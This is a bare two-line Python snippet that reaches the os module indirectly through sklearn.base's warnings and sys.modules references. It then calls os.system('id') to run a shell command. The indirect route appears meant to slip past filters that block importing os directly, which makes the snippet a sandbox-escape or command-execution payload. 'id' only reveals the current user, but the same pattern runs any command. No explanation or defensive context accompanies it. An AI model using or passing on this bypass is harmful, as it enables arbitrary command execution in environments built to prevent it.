import sklearn.base as b
b.warnings.sys.modules["os"].system("id")
